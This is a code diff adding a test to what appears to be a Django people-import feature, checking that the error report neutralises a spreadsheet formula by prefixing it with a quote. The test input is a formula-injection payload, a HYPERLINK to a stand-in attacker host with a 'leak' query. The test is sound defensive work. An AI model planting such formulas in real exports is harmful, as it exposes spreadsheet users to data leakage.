@@ -197,3 +197,11 @@ def test_a_filled_in_xlsx_template_imports(library: Any, client_for: Any) -> Non
     job = upload(client, "people", buffer.getvalue(), "人员.xlsx").json()
     assert (job["status"], job["rows_ok"], job["file_name"]) == (ImportStatus.DONE, 3, "人员.xlsx")
     assert Person.objects.filter(id_number_masked__endswith=id_number(2)[-4:]).exists()
+
+
+def test_the_error_report_does_not_hand_excel_a_formula(library: Any, client_for: Any) -> None:
+    client = client_for("dispatcher")
+    rows = people_rows(1)
+    rows[0][6] = '=HYPERLINK("http://evil.example/?leak","点击查看")'
+    job = upload(client, "people", csv_bytes("people", rows)).json()
+    assert report(client, job["id"])[1][2] == "'" + rows[0][6]
